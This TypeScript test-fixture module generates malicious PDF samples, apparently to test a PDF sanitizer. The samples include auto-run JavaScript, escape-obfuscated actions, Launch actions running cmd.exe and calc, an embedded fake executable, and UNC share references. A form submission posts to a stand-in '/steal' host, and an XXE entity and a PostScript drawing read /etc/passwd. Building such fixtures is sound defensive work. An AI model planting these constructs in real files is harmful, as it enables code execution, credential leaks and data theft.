import { PDFDocument } from '@cantoo/pdf-lib';
import { type NastyFile, nasty } from './nastyFile.ts';
import { latin1, onePage, rawStream, stream } from './pdfFile.ts';

/** PDFs that act, or bring something along. */
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const UNC = '(\\\\\\\\192.0.2.7\\\\share\\\\x.pdf)';
const ANNOT = '/Type /Annot /Rect [72 600 300 640] /F 4';
const link = (action: string): string => `<< ${ANNOT} /Subtype /Link /A ${action} >>`;
const PROGRAM = 'MZ\x90\x00 This program cannot be run in DOS mode.';
const FILE = '<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>';
const ATTACHED = [FILE, rawStream(PROGRAM, '/Type /EmbeddedFile')];

export const scriptedPdfs: readonly NastyFile[] = [
  nasty('a script in the names of the document', 'scripted', () =>
    onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  ),
  nasty('a script when the document opens', 'scripted', () => onePage({ catalog: `/OpenAction ${SCRIPT}` })),
  nasty('a script when the document closes', 'scripted', () => onePage({ catalog: `/AA << /WC ${SCRIPT} >>` })),
  nasty('a script when the page opens', 'scripted', () => onePage({ page: `/AA << /O ${SCRIPT} >>` })),
  nasty('a script behind a link', 'scripted', () => onePage({ page: `/Annots [${link(SCRIPT)}]` })),
  nasty('a script at each key in a field', 'scripted', () =>
    onePage({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [`<< ${ANNOT} /Subtype /Widget /FT /Tx /T (a) /AA << /K ${SCRIPT} >> >>`],
    }),
  ),
  nasty('a script in a stream', 'scripted', () =>
    onePage({ catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>', more: [stream('app.launchURL("//192.0.2.7")')] }),
  ),
  nasty('a script spelt with escapes', 'scripted', () =>
    onePage({ catalog: '/Open#41ction << /S /J#61vaScr#69pt /#4a#53 (app.alert\\(1\\)) >>' }),
  ),
  nasty('a script inside an object stream', 'scripted', () =>
    onePage({ packed: true, catalog: '/OpenAction 6 0 R', more: [SCRIPT] }),
  ),
  nasty('a script after a harmless action', 'scripted', () =>
    onePage({
      catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] /Next ${SCRIPT} >>] >>`,
    }),
  ),
  nasty('a script with a rendition', 'scripted', () =>
    onePage({ page: `/Annots [${link('<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>')}]` }),
  ),
  nasty('a script behind a bookmark', 'scripted', () =>
    onePage({
      catalog: '/Outlines 6 0 R',
      more: ['<< /First 7 0 R /Last 7 0 R /Count 1 >>', `<< /Title (a) /Parent 6 0 R /A ${SCRIPT} >>`],
    }),
  ),
  nasty('a script added by a later revision', 'scripted', () => {
    const before = onePage();
    const added = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>\nendobj\n`;
    const start = before.length + added.length;
    const at = String(before.length).padStart(10, '0');
    const former = /startxref\n(\d+)/.exec(before.toString('latin1'))?.[1];
    return Buffer.concat([
      before,
      latin1(
        `${added}xref\n1 1\n${at} 00000 n \ntrailer << /Size 6 /Root 1 0 R /Prev ${former} >>\nstartxref\n${start}\n%%EOF\n`,
      ),
    ]);
  }),
  nasty('a program launched when the document opens', 'scripted', () =>
    onePage({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  ),
  nasty('a program launched behind a link', 'scripted', () =>
    onePage({ page: `/Annots [${link('<< /S /Launch /F (calc.exe) >>')}]` }),
  ),
  nasty('a program launched, spelt with escapes', 'scripted', () =>
    onePage({ catalog: '/OpenAction << /S /L#61unch /F (calc.exe) >>' }),
  ),
];

export const loadedPdfs: readonly NastyFile[] = [
  nasty('an attached program', 'attachments', () =>
    onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >>', more: ATTACHED }),
  ),
  nasty('a program attached to a note', 'attachments', () =>
    onePage({ page: `/Annots [<< ${ANNOT} /Subtype /FileAttachment /FS 6 0 R >>]`, more: ATTACHED }),
  ),
  nasty('a program as an associated file', 'attachments', () => onePage({ catalog: '/AF [6 0 R]', more: ATTACHED })),
  nasty('a program as an associated file of a page', 'attachments', () =>
    onePage({ page: '/AF [6 0 R]', more: ATTACHED }),
  ),
  nasty('a portfolio of programs', 'attachments', () =>
    onePage({
      catalog: '/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>',
      more: ATTACHED,
    }),
  ),
  nasty('an attachment inside an object stream', 'attachments', () =>
    onePage({ packed: true, catalog: '/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>', more: ATTACHED }),
  ),
  nasty('a rich media film with its player', 'attachments', () =>
    onePage({
      page: `/Annots [<< ${ANNOT} /Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >> >>]`,
      more: ATTACHED,
    }),
  ),
  nasty('an XFA form in a stream', 'xfa', () =>
    onePage({
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [stream('<xdp:xdp><script>x</script></xdp:xdp>')],
    }),
  ),
  nasty('an XFA form in parts', 'xfa', () =>
    onePage({ catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', more: [stream('<template/>')] }),
  ),
];

/** What acts less than a script does goes, and the page stays. */
export const actingPdfs: readonly NastyFile[] = [
  ...(
    [
      ['a document on a Windows share, opened at once', `<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`],
      ['an attached document, opened at once', '<< /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>'],
      ['an address, opened at once', '<< /S /URI /URI (https://192.0.2.7/track) >>'],
      ['a script in an address', '<< /S /URI /URI (javascript:alert\\(1\\)) >>'],
      ['the printer, called at once', '<< /S /Named /N /Print >>'],
      ['a form, sent at once', '<< /S /SubmitForm /F (https://192.0.2.7/steal) /Flags 4 >>'],
      ['data, fetched into the form', `<< /S /ImportData /F ${UNC} >>`],
      ['fields, hidden at once', '<< /S /Hide /T (a) >>'],
      ['a thread of another file', `<< /S /Thread /F ${UNC} /D 0 >>`],
      ['layers, switched at once', '<< /S /SetOCGState /State [/OFF] >>'],
    ] as const
  ).map(([name, action]) => nasty(name, 'rewritten', () => onePage({ catalog: `/OpenAction ${action}` }))),
  nasty('a link to a Windows share', 'rewritten', () =>
    onePage({ page: `/Annots [${link(`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`)}]` }),
  ),
  nasty('a button that sends the form elsewhere', 'rewritten', () =>
    onePage({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< ${ANNOT} /Subtype /Widget /FT /Btn /Ff 65536 /T (a) /A << /S /SubmitForm /F (https://192.0.2.7) >> >>`,
      ],
    }),
  ),
  nasty('a film of another file', 'rewritten', () =>
    onePage({ page: `/Annots [<< ${ANNOT} /Subtype /Movie /Movie << /F ${UNC} >> /A true >>]` }),
  ),
  nasty('a screen that plays an address', 'rewritten', () =>
    onePage({
      page: `/Annots [<< ${ANNOT} /Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://192.0.2.7/a.mp4) >> >> >> >> >>]`,
    }),
  ),
  nasty('a sound', 'rewritten', () =>
    onePage({
      page: `/Annots [<< ${ANNOT} /Subtype /Sound /Sound 6 0 R >>]`,
      more: [rawStream('beep', '/Type /Sound /R 8000')],
    }),
  ),
  nasty('a three-dimensional model', 'rewritten', () =>
    onePage({
      page: `/Annots [<< ${ANNOT} /Subtype /3D /3DD 6 0 R >>]`,
      more: [stream('U3D', '/Type /3D /Subtype /U3D')],
    }),
  ),
  nasty('rich media without files', 'rewritten', () =>
    onePage({ page: `/Annots [<< ${ANNOT} /Subtype /RichMedia /RichMediaContent << >> >>]` }),
  ),
  nasty('an image whose bytes stand on a Windows share', ['rewritten', 'unreadable'], () =>
    onePage({
      resources: '/XObject << /I 6 0 R >>',
      content: 'q 100 0 0 100 72 400 cm /I Do Q',
      more: [
        rawStream(
          '',
          `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${UNC}`,
        ),
      ],
    }),
  ),
  nasty('a drawing that refers to a page of another file', 'rewritten', () =>
    onePage({
      resources: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      more: [stream('0 0 50 50 re f', `/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Ref << /F ${UNC} /Page 0 >>`)],
    }),
  ),
  nasty('a drawing in PostScript', 'rewritten', () =>
    onePage({
      resources: '/XObject << /X 6 0 R >>',
      content: '/X Do',
      more: [rawStream('(/etc/passwd) (r) file', '/Type /XObject /Subtype /PS')],
    }),
  ),
  nasty('metadata with an entity of the machine', 'rewritten', () =>
    onePage({
      catalog: '/Metadata 6 0 R',
      more: [
        rawStream('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '/Type /Metadata /Subtype /XML'),
      ],
    }),
  ),
  nasty('an action hidden among the fonts', 'rewritten', () =>
    onePage({ resources: `/ExtGState << /G << /S /URI /URI (https://192.0.2.7) >> >>` }),
  ),
];

/** Encrypted for real, then hidden. */
async function encrypted(userPassword: string): Promise<Buffer> {
  const pdf = await PDFDocument.load(onePage());
  pdf.encrypt({ userPassword, ownerPassword: 'proprietaire' });
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

export const lockedPdfs: readonly NastyFile[] = [
  nasty('locked by a password', 'encrypted', () => encrypted('secret')),
  nasty('protected against copying', 'encrypted', () => encrypted('')),
  nasty('locked, its lock spelt with an escape', 'encrypted', async () =>
    latin1((await encrypted('secret')).toString('latin1').replace('/Encrypt', '/Encr#79pt')),
  ),
  nasty('protected, its lock spelt with an escape', 'encrypted', async () =>
    latin1((await encrypted('')).toString('latin1').replace('/Encrypt', '/Encr#79pt')),
  ),
  nasty('locked for certificates', 'encrypted', () =>
    onePage({ trailer: '/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 2 >>' }),
  ),
];
